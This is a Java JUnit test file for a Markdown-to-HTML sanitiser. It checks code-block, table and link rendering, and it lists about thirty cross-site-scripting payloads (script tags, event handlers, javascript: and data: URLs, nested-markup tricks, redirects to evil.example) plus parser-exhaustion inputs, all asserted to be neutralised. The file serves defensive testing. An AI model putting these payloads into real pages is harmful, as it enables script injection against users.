package rejoinder.pack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkupTest {
    @Test
    void codeKeepsItsLanguageAndItsMarks() {
        assertThat(Markup.html("```python\nif a < b:\n    print(\"x\")\n```\n"))
                .isEqualTo(
                        "<pre><code class=\"language-python\">if a &lt; b:\n    print(&#34;x&#34;)\n</code></pre>\n");
    }

    @Test
    void tablesAndListsComeThrough() {
        assertThat(Markup.html("| a | b |\n|---|:-:|\n| 1 | `2` |\n"))
                .contains("<table>", "<th>a</th>", "<td align=\"center\"><code>2</code></td>");
        assertThat(Markup.html("3. one\n   - two\n")).contains("<ol start=\"3\">", "<ul>", "<li>two</li>");
    }

    @Test
    void linksLeadOutWithoutAWayBack() {
        assertThat(Markup.html("[docs](https://docs.python.org/3/ \"Docs\")"))
                .contains(
                        "href=\"https://docs.python.org/3/\"",
                        "rel=\"noopener noreferrer\"",
                        "target=\"_blank\"",
                        ">docs</a>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](/api/sessions)",
                "[x](//evil.example)",
                "[x](#top)",
                "[x](file:///etc/passwd)",
                "[x](data:text/html,y)"
            })
    void aLinkThatIsNoWebAddressIsOnlyItsText(String markdown) {
        assertThat(Markup.html(markdown)).isEqualTo("<p>x</p>\n");
    }

    @Test
    void imagesAreShownAsText() {
        assertThat(Markup.html("![a cat](https://example.org/cat.png)"))
                .contains("[image: a cat] (https://example.org/cat.png)")
                .doesNotContain("<img");
        assertThat(Markup.html("![a cat][c]\n\n[c]: https://example.org/cat.png"))
                .contains("![a cat][c]")
                .doesNotContain("<img");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" java\nscript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](https://a.example/\"onmouseover=alert(1))",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![\"><img src=x onerror=alert(1)>](x)",
                "<p onclick=alert(1)>x</p>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<div><form action=//evil.example><input name=p><button>go</button></form></div>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=//evil.example>",
                "<object data=x></object><embed src=x>",
                "<style>@import '//evil.example'</style>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "```\"><script>alert(1)</script>\nx\n```",
                "```x onload=alert(1)\nx\n```",
                "`<script>alert(1)</script>`",
                "<code class=\"language-x\" onclick=\"alert(1)\">x</code>",
                "<!-- <img src=x onerror=alert(1)> -->",
                "<x-widget onclick=alert(1)>x</x-widget>"
            })
    void nothingThatRunsComesThrough(String markdown) {
        for (String html : new String[] {Markup.html(markdown), Markup.inline(markdown)}) {
            String tags = tags(html);
            assertThat(tags)
                    .doesNotContain("script", "<img", "<svg", "<iframe", "<form", "<input", "<style", "<meta", "<base")
                    .doesNotContain("<object", "<embed", "<math", "<x-widget", "javascript:", "vbscript:", "data:")
                    .doesNotContainPattern("\\son[a-z]+\\s*=")
                    .doesNotContain(" style", "//evil");
        }
    }

    /** Only what is between angle brackets; the rest is text to a browser. */
    private static String tags(String html) {
        StringBuilder tags = new StringBuilder();
        int depth = 0;
        for (char c : html.toLowerCase(Locale.ROOT).toCharArray()) {
            depth += c == '<' ? 1 : 0;
            if (depth > 0) {
                tags.append(c);
            }
            depth -= c == '>' ? 1 : 0;
        }
        return tags.toString();
    }

    @Test
    void harmlessMarksOfHtmlComeThrough() {
        assertThat(Markup.html("press <kbd>Ctrl</kbd>, H<sub>2</sub>O")).contains("<kbd>Ctrl</kbd>", "<sub>2</sub>");
    }

    @Test
    void aPromptHasNoBlockAroundIt() {
        assertThat(Markup.inline("1. What does `a < b` **mean**?"))
                .isEqualTo("1. What does <code>a &lt; b</code> <strong>mean</strong>?");
        assertThat(Markup.inline("- C #")).isEqualTo("- C #");
        assertThat(Markup.inline("  ")).isEmpty();
    }

    @Test
    void plainTextKeepsTheWordsAndTheCode() {
        assertThat(Markup.text("What is `__init__.py` *for*, in a [package](https://example.org)?"))
                .isEqualTo("What is __init__.py for, in a package?");
    }

    @ParameterizedTest
    @CsvSource({"[,1", "<b>,1", "'> ',1", "'- ',1", "'*a **b ',1", "![,](x)", "`a` ,1", "*,1", "_ ,1", "[a](b) ,1"})
    void aTextMadeToExhaustTheParserIsShownAsItWasTyped(String open, String close) {
        String text = open.repeat(100_000 / open.length()) + close.repeat(1_000);
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            assertThat(Markup.html(text)).isNotEmpty();
            assertThat(Markup.inline(text)).isNotNull();
            assertThat(Markup.text(text)).isNotNull();
        });
    }

    @Test
    void aRefusedTextIsEscaped() {
        assertThat(Markup.html("<script>".repeat(4_000)))
                .startsWith("<pre>&lt;script&gt;")
                .doesNotContain("<script");
        assertThat(Markup.inline("<script>".repeat(4_000))).doesNotContain("<script");
    }
}
